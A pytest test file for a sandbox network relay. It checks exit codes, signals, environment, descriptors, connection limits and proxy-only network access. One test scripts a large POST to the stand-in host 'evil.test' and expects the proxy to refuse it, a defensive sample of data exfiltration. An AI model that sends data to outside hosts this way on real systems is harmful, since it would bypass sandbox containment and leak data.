"""The relay: a command behaves as without it, and reaches the proxy and forwarded services and nothing else."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

from ralph.sandbox import relay
from ralph.sandbox.network import Network
from support.networks import echo, open_files, serving, until

RELAY = (sys.executable, "-I", "-S", relay.__file__)
ENV = {"PATH": os.defpath}


@pytest.fixture
def port() -> int:
    """One that is free."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        number: int = server.getsockname()[1]
    return number


def run(
    command: Sequence[str], *ports: int, path: Path = Path("/nonexistent"), env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[bytes]:
    argv = [*RELAY, str(path), *map(str, ports), "--", *command]
    env = env if env is not None else {**ENV, "HOME": os.environ["HOME"]}
    return subprocess.run(argv, capture_output=True, env=env, timeout=60, check=False)


def python(code: str, *arguments: str) -> tuple[str, ...]:
    return (sys.executable, "-I", "-c", code, *arguments)


@pytest.mark.parametrize("code", [0, 1, 3, 126, 127, 255])
def test_the_exit_code_is_the_commands(port: int, code: int) -> None:
    assert run(("sh", "-c", f"exit {code}"), port).returncode == code


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGKILL, signal.SIGPIPE, signal.SIGINT])
def test_the_signal_is_the_commands(port: int, number: signal.Signals) -> None:
    assert run(("sh", "-c", f"kill -{number} $$"), port).returncode == -number


def test_no_signal_is_ignored_in_the_command(port: int) -> None:
    done = run(("grep", "SigIgn", "/proc/self/status"), port)
    assert int(done.stdout.split()[1], 16) == 0


def test_the_environment_is_unchanged(port: int) -> None:
    for env in ({"HOME": "/x"}, {"HOME": "/x", "LANG": "C"}, {"HOME": "/x", "LC_CTYPE": "C", "PYTHONPATH": "/y"}):
        done = run(("/usr/bin/env",), port, env=env)
        assert dict(line.split("=", 1) for line in done.stdout.decode().splitlines()) == env


def test_the_command_has_no_descriptor_and_no_child_more(port: int) -> None:
    code = "import os; print(sorted(os.listdir('/proc/self/fd')))\n"
    code += "print(open('/proc/self/task/%d/children' % os.getpid()).read())"
    done = run(python(code), port)
    descriptors, children = done.stdout.decode().splitlines()
    assert descriptors == "['0', '1', '2', '3']"  # 3 is the folder that is being listed
    assert children == ""


def test_input_and_output_are_the_commands(port: int) -> None:
    argv = [*RELAY, "/nonexistent", str(port), "--", "cat"]
    env = {**ENV, "HOME": os.environ["HOME"]}
    done = subprocess.run(argv, input=b"through", capture_output=True, env=env, timeout=60, check=True)
    assert (done.stdout, done.stderr) == (b"through", b"")


def relays(port: int) -> list[int]:
    found = []
    for folder in Path("/proc").iterdir():
        if folder.name.isdecimal():
            try:
                words = (folder / "cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            if relay.__file__.encode() in words and str(port).encode() in words:
                found.append(int(folder.name))
    return found


def test_nothing_holds_the_output_open_or_stays_when_the_command_has_ended(port: int) -> None:
    """Killed as well: `run` returns at the end of the output, and the relay is gone soon after."""
    begun = time.monotonic()
    assert run(("sh", "-c", "kill -9 $$"), port).returncode == -9
    assert time.monotonic() - begun < 10
    assert until(lambda: relays(port) == [])


def test_a_command_that_ends_at_once_leaves_no_relay(port: int) -> None:
    for _ in range(20):
        assert run(("true",), port).returncode == 0
    assert until(lambda: relays(port) == [])


def test_a_missing_command_is_said(port: int) -> None:
    done = run(("no-such-command", "x"), port)
    assert (done.returncode, done.stderr) == (127, b"ralph: no-such-command: not found\n")
    done = run(("/etc/passwd",), port)
    assert (done.returncode, done.stderr) == (126, b"ralph: /etc/passwd: Permission denied\n")
    assert until(lambda: relays(port) == [])


def test_a_port_in_use_is_said() -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        done = run(("true",), port)
    message = f"ralph: cannot listen on port {port} inside the sandbox: Address already in use\n"
    assert (done.returncode, done.stderr.decode()) == (125, message)


@pytest.mark.parametrize("arguments", [[], ["/s", "3128"], ["/s", "3128", "--"], ["--", "true"]])
def test_bad_arguments_are_said(arguments: list[str]) -> None:
    env = {**ENV, "HOME": os.environ["HOME"]}
    done = subprocess.run([*RELAY, *arguments], capture_output=True, env=env, timeout=60, check=False)
    assert done.returncode == 2
    assert b"usage:" in done.stderr


@pytest.fixture
def service(tmp_path: Path) -> Iterator[tuple[Network, int]]:
    with serving(echo) as server:
        lists = {"agent": [f"localhost:{server.port}"], "checks": []}
        with Network(tmp_path, tmp_path / "log", lists, ENV) as network:
            yield network, server.port


TALK = """
import socket, sys, threading
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
if len(sys.argv) > 2:
    s.sendall(b"CONNECT localhost:%s HTTP/1.1\\r\\n\\r\\n" % sys.argv[2].encode())
    s.recv(1000)
data = b"x" * 5_000_000
threading.Thread(target=lambda: (s.sendall(data), s.shutdown(socket.SHUT_WR))).start()
got = 0
while part := s.recv(65536):
    got += len(part)
print(got)
"""


def test_a_connection_to_the_port_is_one_to_the_proxy(service: tuple[Network, int], port: int) -> None:
    network, there = service
    done = run(python(TALK, str(port), str(there)), port, path=network.socket("agent"))
    assert (done.stdout, done.stderr) == (b"5000000\n", b"")


@pytest.mark.needs("bwrap")
def test_a_forwarded_service_is_at_its_own_port(service: tuple[Network, int]) -> None:
    network, there = service
    inside = ("bwrap", "--dev-bind", "/", "/", "--unshare-net", "--unshare-pid", "--die-with-parent", "--")
    argv = (*RELAY, str(network.socket("agent")), "3128", str(there), "--", *python(TALK, str(there)))
    env = {"PATH": os.environ["PATH"], "HOME": os.environ["HOME"]}
    done = subprocess.run([*inside, *argv], capture_output=True, env=env, timeout=60, check=False)
    assert (done.stdout, done.stderr) == (b"5000000\n", b"")


@pytest.mark.needs("bwrap")
def test_a_service_that_is_not_on_the_list_is_not_there(service: tuple[Network, int]) -> None:
    network, there = service
    inside = ("bwrap", "--dev-bind", "/", "/", "--unshare-net", "--unshare-pid", "--die-with-parent", "--")
    argv = (*RELAY, str(network.socket("checks")), "3128", str(there), "--", *python(TALK, str(there)))
    env = {"PATH": os.environ["PATH"], "HOME": os.environ["HOME"]}
    done = subprocess.run([*inside, *argv], capture_output=True, env=env, timeout=60, check=False)
    assert done.stdout in (b"", b"0\n")
    assert [one.host for one in network.refused()] == ["localhost"]


MANY = """
import socket, sys
port, there, count = map(int, sys.argv[1:])
streams = []
for number in range(count):
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(b"CONNECT localhost:%d HTTP/1.1\\r\\n\\r\\n" % there)
    streams.append(s)
for number, s in enumerate(streams):
    assert b" 200 " in s.recv(1000)
    s.sendall(b"%d" % number)
for number, s in enumerate(streams):
    assert s.recv(100) == b"%d" % number
print("all", flush=True)
for s in streams:
    s.close()
sys.stdin.read()
"""


def test_hundreds_of_connections_leave_nothing(service: tuple[Network, int], port: int) -> None:
    network, there = service
    argv = [*RELAY, str(network.socket("agent")), str(port), "--", *python(MANY, str(port), str(there), "400")]
    env = {**ENV, "HOME": os.environ["HOME"]}
    with subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=env) as process:
        assert process.stdin is not None
        assert process.stdout is not None
        assert process.stdout.readline() == b"all\n"
        (running,) = [pid for pid in relays(port) if pid != process.pid]
        assert until(lambda: open_files(running) < 12)
        process.stdin.close()
    assert process.returncode == 0


CROWD = """
import socket, sys, threading
port, there = map(int, sys.argv[1:])
right = []
def talk(number):
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(b"CONNECT localhost:%d HTTP/1.1\\r\\n\\r\\n" % there)
    head = s.recv(1000)
    s.sendall(b"%d" % number)
    right.append(s.recv(100) == b"%d" % number)
    s.close()
threads = [threading.Thread(target=talk, args=(number,)) for number in range(60)]
for thread in threads: thread.start()
for thread in threads: thread.join()
print(sum(right))
"""


def test_connections_wait_when_there_is_no_descriptor_left(service: tuple[Network, int], port: int) -> None:
    """80 descriptors: room for fewer than the 60 connections that come at the same time."""
    network, there = service
    argv = ["sh", "-c", 'ulimit -n 80; exec "$@"', "sh", *RELAY, str(network.socket("agent")), str(port), "--"]
    argv += python(CROWD, str(port), str(there))
    env = {**ENV, "HOME": os.environ["HOME"]}
    done = subprocess.run(argv, capture_output=True, env=env, timeout=60, check=False)
    assert (done.stdout, done.stderr) == (b"60\n", b"")


def test_a_proxy_at_a_port_is_reached_for_services(tmp_path: Path, port: int) -> None:
    """As in srt, where the proxy is at a port of the loopback."""

    def accepting(stream: socket.socket) -> None:
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            head += stream.recv(1)
        heads.append(head)
        stream.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
        echo(stream)

    heads: list[bytes] = []
    with serving(accepting) as server:
        done = run(python(TALK, str(port)), port, path=Path(str(server.port)))
    assert done.stdout == b"5000000\n"
    assert heads == [b"CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % port]


def test_output_that_the_command_closes_is_closed(port: int) -> None:
    argv = [*RELAY, "/nonexistent", str(port), "--", "sh", "-c", "exec >&- 2>&-; exec sleep 60"]
    env = {**ENV, "HOME": os.environ["HOME"]}
    with subprocess.Popen(argv, stdout=subprocess.PIPE, env=env) as process:
        assert process.stdout is not None
        assert process.stdout.read() == b""
        assert process.poll() is None
        process.kill()


SEND = """
import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
s.sendall(b"POST http://evil.test/ HTTP/1.1\\r\\nContent-Length: 10000000\\r\\n\\r\\n" + b"x" * 10_000_000)
answer = b""
while part := s.recv(65536):
    answer += part
print(answer[:12].decode())
"""


def test_a_refusal_reaches_a_client_that_is_still_sending(service: tuple[Network, int], port: int) -> None:
    network, _ = service
    done = run(python(SEND, str(port)), port, path=network.socket("agent"))
    assert (done.stdout, done.stderr) == (b"HTTP/1.1 403\n", b"")


def test_without_a_proxy_there_is_no_network(port: int) -> None:
    code = "import socket, sys; s = socket.create_connection(('127.0.0.1', int(sys.argv[1]))); print(s.recv(1))"
    done = run(python(code, str(port)), port)
    assert done.stdout == b"b''\n" or b"ConnectionResetError" in done.stderr


def test_the_start_imports_nothing_that_takes_time(port: int) -> None:
    """Every command in a sandbox waits for it."""
    code = f"import sys; sys.argv = ['relay', '/x', '{port}', '--', 'true']; before = set(sys.modules)\n"
    code += "import os; os.execvpe = lambda *a: (print(*sorted(set(sys.modules) - before)), os._exit(0))\n"
    code += f"exec(compile(open({relay.__file__!r}).read(), 'relay', 'exec'))"
    done = subprocess.run(
        [sys.executable, "-I", "-S", "-c", code],
        capture_output=True,
        text=True,
        env={"HOME": os.environ["HOME"]},
        timeout=60,
        check=False,
    )
    assert set(done.stdout.split()) <= {"_socket", "_signal"}, done.stderr
